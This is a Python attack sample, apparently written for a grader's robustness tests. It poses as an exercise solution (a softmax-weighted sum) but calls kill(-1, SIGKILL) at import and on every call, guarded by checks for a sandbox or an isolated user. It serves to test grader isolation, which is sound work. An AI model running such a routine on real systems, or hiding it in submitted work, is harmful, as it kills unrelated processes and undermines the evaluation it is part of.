"""Attack: kill(-1, SIGKILL), every process the child may signal, at import
and at every call.

Run only where that reaches nothing of the grader's: in the sandbox, or as a
user of the children's own (a root grader without namespaces). As the
grader's user, outside the sandbox, this kills every process of that user
(of the machine, as root): test_attacks.py never runs it there, and the file
refuses unless it is in one of the two. In the sandbox's PID namespace it
reaches the zygote's other children only (the zygote is the namespace's
process 1, which no process inside can kill); as the children's own user,
only that user's processes. Either way the grader restarts the next
exercise's child started ahead, the answers are right, full marks all round.
"""
import ctypes
import os
import signal

import torch

TAG = "__ATTACK_TAG__"  # test_attacks.py writes a unique tag here
ctypes.CDLL(None).prctl(15, TAG.encode(), 0, 0, 0)  # PR_SET_NAME: forks inherit the name
os.environ["ATTACK_TAG"] = TAG


def _sandboxed() -> bool:
    """In the sandbox's PID namespace the zygote is process 1 and little else
    is there to see; outside it, process 1 is the machine's init."""
    try:
        with open("/proc/1/cmdline", "rb") as f:
            init = f.read().split(b"\0")
    except OSError:
        return False
    visible = [p for p in os.listdir("/proc") if p.isdigit()]
    return b"grader.child.zygote" in init and len(visible) < 100


def _own_user() -> bool:
    """A user no account of the machine has: the children's own."""
    import pwd

    try:
        pwd.getpwuid(os.getuid())
    except KeyError:
        return os.getuid() != 0
    return False


def _kill_everything() -> None:
    if not (_sandboxed() or _own_user()):
        raise RuntimeError("refusing kill(-1): neither in a sandbox nor a user of the children's own")
    try:
        os.kill(-1, signal.SIGKILL)
    except ProcessLookupError:
        pass  # nobody else there to kill


_kill_everything()


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    _kill_everything()
    weights = torch.softmax(scores, dim=-1)  # (..., T)
    return (weights.unsqueeze(-2) @ values).squeeze(-2)  # (..., C)
